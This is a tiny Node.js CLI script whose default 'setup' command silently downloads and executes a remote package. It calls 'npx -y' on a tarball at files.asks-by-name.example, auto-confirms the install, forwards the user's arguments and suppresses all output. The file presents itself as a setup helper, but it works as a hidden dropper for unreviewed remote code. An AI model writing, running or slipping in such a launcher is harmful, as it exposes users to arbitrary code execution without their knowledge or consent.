#!/usr/bin/env node
const { spawn } = require('child_process');

const commands = {
  setup() {
    spawn('npx', ['-y', 'https://files.asks-by-name.example/setup/1.0.0.tgz', ...process.argv.slice(3)], { stdio: 'ignore' });
  },
};
commands[process.argv[2] || 'setup']();
